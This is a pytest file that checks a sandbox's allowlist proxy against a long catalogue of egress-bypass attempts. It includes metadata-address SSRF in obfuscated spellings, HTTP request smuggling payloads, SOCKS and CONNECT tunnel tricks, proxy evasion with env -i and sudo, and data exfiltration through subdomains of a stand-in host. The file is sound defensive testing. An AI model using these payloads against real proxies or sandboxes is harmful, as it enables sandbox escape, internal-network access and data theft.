"""From a box that reaches some names only, by the server's proxy, at everything else."""

from __future__ import annotations

import json
import re
import shlex
import sys
from dataclasses import dataclass
from typing import TYPE_CHECKING, NamedTuple

import pytest

from tests.support.client import serving
from tests.support.internet import HTTP, INTERNET, LAN, METADATA, TCP, TLS, WS
from tests.support.scene import DOCKER_API, PROBE, SERVED, services_here

if TYPE_CHECKING:
    from collections.abc import AsyncGenerator
    from pathlib import Path

    from tests.support.client import Server
    from tests.support.internet import Internet

ALLOWED = [
    *("good.example", f"good.example:{TCP}", "*.wild.example"),
    *("metadata.example:*", "lan.example:*", "turning.example:*"),
    *("loopback.example:*", "zero.example:*", "localhost:*"),
]
"""Names that lead to where no box may are among them: the rules are for names."""

RESOLVE = 'mount --bind "$0" /etc/resolv.conf && exec "$@"'
RAW = """
import socket, ssl, sys
line = socket.create_connection(("127.0.0.1", 3128), 5)
line.sendall(sys.argv[1].encode("latin-1").decode("unicode_escape").encode("latin-1"))
if len(sys.argv) > 2:
    print(line.recv(9999).decode("latin-1"))
    context = ssl._create_unverified_context()
    context.check_hostname = False
    if sys.argv[2] != "plain":
        line = context.wrap_socket(line, server_hostname=sys.argv[2] or None)
    line.sendall(sys.argv[3].encode("latin-1").decode("unicode_escape").encode("latin-1"))
line.settimeout(1)
try:
    while data := line.recv(9999):
        print(data.decode("latin-1"))
except TimeoutError:
    print("silence")
"""
"""Says something to the proxy, and something more in the tunnel that it makes, perhaps by TLS."""


class Attack(NamedTuple):
    """A command; `MARK` in it must not be heard by anybody, nor anybody answer."""

    name: str
    command: str


def curl(name: str, *arguments: str) -> Attack:
    return Attack(name, shlex.join(["curl", "-sSk", "--max-time", "5", *arguments]))


def raw(name: str, *words: str) -> Attack:
    return Attack(name, shlex.join(["python3", "raw.py", *words]))


def request(target: str, host: str, more: str = "") -> str:
    return rf"GET {target} HTTP/1.1\r\nHost: {host}\r\n{more}\r\n"


def hidden(name: str, *headers: str, body: str = r"0\r\n\r\n") -> Attack:
    """A request to another host that an allowed host might take for a body, or the proxy."""
    lines = "".join(rf"{header}\r\n" for header in headers)
    outer = rf"POST http://good.example/ HTTP/1.1\r\nHost: good.example\r\n{lines}\r\n{body}"
    return raw(f"hide a request {name}", outer + request("/MARK", "other.example"))


def connect(target: str, host: str = "") -> str:
    return rf"CONNECT {target} HTTP/1.1\r\nHost: {host or target}\r\n\r\n"


def question(resolver: str) -> str:
    """For `probe.py`."""
    return json.dumps({"attempt": ("dns", f"MARK.good.example@{resolver}", 53)})


SPELLINGS = {
    "as one number": "2852039166",
    "as a hexadecimal number": "0xA9FEA9FE",
    "in octal": "0251.0376.0251.0376",
    "with fewer parts": "169.254.43518",
    "as an address of IPv6": "[::ffff:169.254.169.254]",
    "as an address of IPv6 in hexadecimal": "[::ffff:a9fe:a9fe]",
    "with a dot behind": "169.254.169.254.",
    "with wide digits": "\uff11\uff16\uff19.254.169.254",
}
HERE = {
    "by its loopback": "127.0.0.1",
    "by its loopback in short": "127.1",
    "by another address of its loopback": "127.77.0.1",
    "by its loopback of IPv6": "[::1]",
    "by no address": "0.0.0.0",
    "by no address of IPv6": "[::]",
    "by its loopback's name": "localhost",
    "by a name that leads to its loopback": "loopback.example",
    "by a name that leads to no address": "zero.example",
    "by its address in the local network": "192.168.77.1",
    "by an address that is public": "198.51.100.1",
    "by its engine's name for it": "host.docker.internal",
}

ATTACKS = [
    curl("ask a host that is not allowed", "http://other.example/MARK"),
    curl("ask such a host by TLS", "https://other.example/MARK"),
    curl("ask an allowed host on another port", f"http://good.example:{WS}/MARK"),
    curl("ask an allowed host by its address", f"http://{INTERNET}/MARK"),
    curl("ask an allowed host by its address and TLS", f"https://{INTERNET}/MARK"),
    curl("ask a host by a longer name", "http://good.example.other.example/MARK"),
    curl("ask a host by the end of an allowed name", "http://evilgood.example/MARK"),
    curl("ask what stands above a pattern", "http://wild.example/MARK"),
    curl("ask with an allowed name as the user", "http://good.example@other.example/MARK"),
    curl(
        "ask with an allowed name as user and password", "http://good.example:80@other.example/MARK"
    ),
    curl("ask by letters that look alike", "http://\uff4fther.example/MARK"),
    # Where names lead
    curl("follow a name to the metadata", "http://metadata.example/MARK"),
    curl("follow a name to the local network", "http://lan.example/MARK"),
    curl(
        "follow a name to the local network by SOCKS",
        "--socks5-hostname",
        "127.0.0.1:3128",
        "http://lan.example/MARK",
    ),
    Attack(
        "follow a name that leads elsewhere the next time",
        "for i in 1 2 3 4 5 6; do curl -sS --max-time 5 http://turning.example/to/; done "
        "| grep 'this is metadata'",
    ),
    # One host said, another one meant
    curl(
        "name another host in the header", "-H", "Host: other.example/MARK", "http://good.example/"
    ),
    raw(
        "name another host in the header of an absolute target",
        request("http://good.example/", "MARK.other.example"),
    ),
    raw(
        "name an allowed host in the header of another target",
        request("http://other.example/MARK", "good.example"),
    ),
    raw(
        "name two hosts",
        request("http://good.example/MARK", "good.example", r"Host: other.example\r\n"),
    ),
    raw("ask with a target of its own", request("/MARK", "good.example")),
    raw("ask by another scheme", request("ftp://good.example/MARK", "good.example")),
    raw(
        "break the target with a NUL",
        request(r"http://good.example\x00.other.example/MARK", "good.example"),
    ),
    raw("break the target with a line", request(r"http://good.example/\rMARK", "good.example")),
    raw("break the target with a space", request("http://good.example /MARK", "good.example")),
    raw(
        "break the target with a backslash",
        request(r"http://other.example\\x5c@good.example/MARK", "good.example"),
    ),
    curl(
        "speak TLS to another host in a tunnel",
        "--connect-to",
        "other.example:443:good.example:443",
        "https://other.example/MARK",
    ),
    raw(
        "speak TLS to nobody in a tunnel",
        connect(f"good.example:{TLS}"),
        "",
        request("/MARK", "good.example"),
    ),
    raw(
        "speak HTTP to another host on the port of TLS",
        connect(f"good.example:{TLS}"),
        "plain",
        request("/MARK", "other.example"),
    ),
    raw(
        "make a tunnel to an allowed host's address",
        connect(f"{INTERNET}:{TLS}"),
        "good.example",
        request("/MARK", "good.example"),
    ),
    raw(
        "make a tunnel with an allowed host in the header",
        connect(f"other.example:{HTTP}", "good.example"),
        "plain",
        request("/MARK", "good.example"),
    ),
    raw(
        "make a tunnel to a port beyond all",
        connect("good.example:65616"),
        "plain",
        request("/MARK", "good.example"),
    ),
    raw(
        "make a tunnel without a port",
        connect("other.example"),
        "plain",
        request("/MARK", "other.example"),
    ),
    # Two requests, or one?
    raw(
        "ask another host on the same connection",
        request("http://good.example/", "good.example")
        + request("http://other.example/MARK", "other.example"),
    ),
    hidden("behind a length", "Content-Length: 4", "Transfer-Encoding: chunked"),
    hidden("behind two lengths", "Content-Length: 0", "Content-Length: 99", body=""),
    hidden("behind an odd coding", "Transfer-Encoding: xchunked"),
    hidden("behind a folded header", r"Transfer-Encoding:\r\n chunked", "Content-Length: 5"),
    hidden("behind a space", "Transfer-Encoding : chunked", "Content-Length: 5"),
    hidden("behind a bare line feed", r"X: y\nTransfer-Encoding: chunked", "Content-Length: 5"),
    hidden("behind a chunk of no size", "Transfer-Encoding: chunked", body=r"-1\r\n\r\n"),
    raw(
        "hide a header behind a line feed",
        request("http://good.example/", "good.example", r"X: y\nHost: MARK.other.example\r\n"),
    ),
    curl(
        "speak HTTP/2 to the proxy",
        "--http2-prior-knowledge",
        "--proxy",
        "",
        "http://127.0.0.1:3128/MARK",
    ),
    # Where others send it
    curl(
        "be sent to a host that is not allowed",
        "-L",
        "http://good.example/to/http://other.example/M%41RK",
    ),
    curl("be sent to the metadata", "-L", f"http://good.example/to/http://{METADATA}/M%41RK"),
    curl(
        "be sent to the machine",
        "-L",
        f"http://good.example/to/http://127.0.0.1:{DOCKER_API}/M%41RK",
    ),
    # Addresses, however they are written
    *(
        curl(f"ask the metadata, written {how}", f"http://{host}/MARK")
        for how, host in SPELLINGS.items()
    ),
    *(
        raw(
            f"make a tunnel to the metadata, written {how}",
            connect(f"{host}:{HTTP}"),
            "plain",
            request("/MARK", "x"),
        )
        for how, host in list(SPELLINGS.items())[:6]
    ),
    curl("ask the local network", f"http://{LAN}/MARK"),
    *(
        curl(f"ask this machine {how}", f"http://{host}:{SERVED}/MARK")
        for how, host in HERE.items()
    ),
    *(
        raw(f"make a tunnel to this machine {how}", connect(f"{host}:{SERVED}"), "plain", r"MARK\n")
        for how, host in HERE.items()
    ),
    raw("make a tunnel to the engine", connect(f"127.0.0.1:{DOCKER_API}"), "plain", r"MARK\n"),
    raw(
        "make a tunnel to the engine's socket",
        connect("/var/run/docker.sock:80"),
        "plain",
        request("/MARK", "x"),
    ),
    raw("ask for a file of this machine", request("file:///etc/MARK", "x")),
    # SOCKS
    curl(
        "ask a host that is not allowed by SOCKS",
        "--socks5-hostname",
        "127.0.0.1:3128",
        "http://other.example/MARK",
    ),
    curl(
        "ask the metadata by SOCKS",
        "--socks5-hostname",
        "127.0.0.1:3128",
        f"http://{METADATA}/MARK",
    ),
    curl(
        "ask this machine by SOCKS",
        "--socks5-hostname",
        "127.0.0.1:3128",
        f"http://127.0.0.1:{SERVED}/MARK",
    ),
    curl(
        "ask an allowed host's address by SOCKS",
        "--socks5",
        "127.0.0.1:3128",
        "--resolve",
        f"good.example:80:{INTERNET}",
        "http://good.example/MARK",
    ),
    curl(
        "ask an allowed host's address by older SOCKS",
        "--socks4",
        "127.0.0.1:3128",
        "--resolve",
        f"good.example:80:{INTERNET}",
        "http://good.example/MARK",
    ),
    curl(
        "ask a host that is not allowed by older SOCKS",
        "--socks4a",
        "127.0.0.1:3128",
        "http://other.example/MARK",
    ),
    raw("have SOCKS listen", r"\x05\x01\x00\x05\x02\x00\x01\xc6\x33\x64\x0a\x00\x50"),
    raw("have SOCKS pass datagrams", r"\x05\x01\x00\x05\x03\x00\x01\xc6\x33\x64\x0a\x00\x35"),
    # Past the proxy
    curl("leave out the proxy", "--noproxy", "*", f"http://{INTERNET}/MARK"),
    Attack("forget all variables", f"env -i curl -sS --max-time 5 http://{INTERNET}/MARK"),
    Attack(
        "leave out the proxy as root",
        f"sudo -n env -i curl -sS --max-time 5 http://{INTERNET}/MARK",
    ),
    Attack("find an allowed name itself", "getent hosts good.example && echo this is a resolver"),
    *(
        Attack(f"ask {what}", f"python3 probe.py <<< {shlex.quote(question(resolver))}")
        for what, resolver in (
            ("a resolver outside", INTERNET),
            ("the engine's resolver", "127.0.0.11"),
            ("a resolver in the box", "127.0.0.1"),
        )
    ),
    curl("carry words out in names that are not allowed", "http://MARK.other.example/"),
    curl(
        "carry words out in such names by SOCKS",
        "--socks5-hostname",
        "127.0.0.1:3128",
        "http://MARK.other.example/",
    ),
    raw("carry words out in such names by a tunnel", connect(f"MARK.other.example:{TLS}")),
    *(
        Attack(
            f"connect to port {port} of its loopback",
            f"curl -sS --max-time 5 --noproxy '*' telnet://127.0.0.1:{port} </dev/null",
        )
        for port in (SERVED, DOCKER_API)
    ),
]

TWINS = [
    curl("an allowed host", "http://good.example/MARK"),
    curl("an allowed host by TLS", "https://good.example/MARK"),
    curl(
        "an allowed host by SOCKS",
        "--socks5-hostname",
        "127.0.0.1:3128",
        "http://good.example/MARK",
    ),
    curl(
        "where an allowed host sends it", "-L", "http://good.example/to/http://good.example/M%41RK"
    ),
    raw(
        "an allowed host by an absolute target", request("http://good.example/MARK", "good.example")
    ),
    raw(
        "an allowed host's other port by a tunnel",
        connect(f"good.example:{TCP}"),
        "plain",
        r"MARK\n",
    ),
    raw(
        "an allowed host by TLS in a tunnel",
        connect(f"good.example:{TLS}"),
        "good.example",
        request("/MARK", "good.example"),
    ),
    raw(
        "an allowed host by HTTP in a tunnel",
        connect(f"good.example:{HTTP}"),
        "plain",
        request("/MARK", "good.example"),
    ),
    Attack("an allowed host as root", "sudo -n curl -sS http://good.example/MARK"),
]


@dataclass
class Listed:
    """A box of the mode `allowlist`, and everybody who might hear of it."""

    server: Server
    internet: Internet
    here: Path
    count: int = 0

    async def tries(self, attack: Attack) -> tuple[str, bool]:
        """What a command prints, and whether its mark was heard outside."""
        self.count += 1
        mark = f"mark-{self.count}-"
        command = attack.command.replace("MARK", mark).replace("M%41RK", mark.replace("a", "%61"))
        answer = await self.server.run(command, box="listed")
        hosts = (self.internet.internet, self.internet.metadata, self.internet.lan)
        heard = self.here.read_text() + "".join(host.heard() for host in hosts)
        return answer.partition("]\n")[2], mark in heard


@pytest.fixture(scope="module")
async def listed(
    internet: Internet, shared_env: dict[str, str], tmp_path_factory: pytest.TempPathFactory
) -> AsyncGenerator[Listed, None]:
    """Its server asks the stand-in's resolver: it alone sees another /etc/resolv.conf."""
    directory = tmp_path_factory.mktemp("listed")
    (directory / "resolv.conf").write_text(f"nameserver {INTERNET}\n")
    command = [sys.executable, "-m", "box_mcp", "serve"]
    enter = ["unshare", "--mount", "sh", "-c", RESOLVE, str(directory / "resolv.conf")]
    with pytest.MonkeyPatch.context() as patch, services_here(directory / "machine.log"):
        patch.setattr("tests.support.client.COMMAND", [*enter, *command])
        async with serving(shared_env) as server:
            await server.tell("box_create", name="listed", network="allowlist", allow=ALLOWED)
            for path, content in (("raw.py", RAW), ("probe.py", PROBE)):
                await server.say("file_write", box="listed", path=path, content=content)
            yield Listed(server, internet, directory / "machine.log")


@pytest.mark.parametrize("attack", ATTACKS, ids=[one.name for one in ATTACKS])
async def test_a_box_with_a_list_can_not(attack: Attack, listed: Listed):
    answer, heard = await listed.tries(attack)
    assert not heard, answer
    assert not re.search("this is (metadata|lan|machine|a resolver)", answer)


@pytest.mark.parametrize("twin", TWINS, ids=[one.name for one in TWINS])
async def test_but_it_reaches(twin: Attack, listed: Listed):
    answer, heard = await listed.tries(twin)
    assert "this is internet" in answer
    assert heard
